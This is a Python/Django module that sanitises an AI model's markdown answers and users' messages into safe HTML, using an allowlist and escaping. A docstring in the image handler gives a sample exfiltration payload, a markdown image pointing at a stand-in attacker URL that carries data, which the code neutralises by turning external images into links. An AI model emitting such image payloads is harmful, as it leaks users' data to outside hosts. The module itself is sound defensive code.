"""Model output → safe HTML: CommonMark (plus tables and strikethrough) rendered on the server, then
sanitised with an allowlist. Raw HTML in the model's text is never passed through: markdown-it
escapes it, and nh3 removes anything outside the allowlist (scripts, event handlers, `javascript:`
URLs) from what markdown produced. Links open safely (`rel="noopener noreferrer"`). A user's message
is shown as typed (render_user_message): whitespace kept, fenced code blocks as code, all escaped."""

from __future__ import annotations

import re
from functools import lru_cache
from typing import Any

import nh3
from django.utils.html import escape
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml

ALLOWED_TAGS = frozenset(
    {
        "p",
        "br",
        "hr",
        "strong",
        "em",
        "del",
        "s",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "a",
        "img",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
)
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "code": {"class"},
    "th": {"align"},
    "td": {"align"},
    "ol": {"start"},
}
URL_SCHEMES = frozenset({"http", "https", "mailto"})


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    parser = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
    parser.add_render_rule("image", _image)
    return parser


def _image(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    """Images from this site render; any other is a link (a model's `![x](https://attacker/?d=DATA)`
    must not make every viewer's browser fetch it, and the CSP's img-src would refuse it anyway)."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    if src.startswith("/") and not src.startswith("//"):
        return renderer.image(tokens, idx, options, env)
    alt = renderer.renderInlineAsText(token.children or [], options, env) or src
    return f'<a href="{escapeHtml(src)}">{escapeHtml(alt)}</a> (external image, not loaded)'


def render_markdown(text: str | None) -> SafeString:
    """Sanitised HTML for a model's markdown answer."""
    if not text:
        return mark_safe("")
    html = _parser().render(text)
    clean = nh3.clean(
        html,
        tags=set(ALLOWED_TAGS),
        attributes={k: set(v) for k, v in ALLOWED_ATTRIBUTES.items()},
        url_schemes=set(URL_SCHEMES),
        link_rel="noopener noreferrer",
    )
    return mark_safe(clean)


# A fenced code block of a user's message: ``` or ~~~ (three or more), an optional language, up to the
# closing fence of the same kind or the end of the message.
_FENCE = re.compile(
    r"^(?P<fence>`{3,}|~{3,})[ \t]*(?P<lang>[\w+#.-]*)[^\n]*\n(?P<code>.*?)(?:^(?P=fence)[ \t]*$\n?|\Z)", re.M | re.S
)


def render_user_message(text: str | None) -> SafeString:
    """A user's message as they typed it: line breaks and indentation kept (the text is shown with
    `white-space: pre-wrap`), fenced code blocks as code. Nothing else is interpreted; all is escaped."""
    if not text:
        return mark_safe("")
    parts: list[str] = []
    at = 0
    for match in _FENCE.finditer(text):
        parts.append(_plain(text[at : match.start()]))
        lang = match.group("lang")
        css = f' class="language-{escape(lang)}"' if lang else ""
        parts.append(f"<pre><code{css}>{escape(match.group('code').rstrip(chr(10)))}</code></pre>")
        at = match.end()
    parts.append(_plain(text[at:]))
    return mark_safe("".join(parts))


def _plain(text: str) -> str:
    text = text.strip("\n")
    return f'<span class="plain">{escape(text)}</span>' if text.strip() else ""
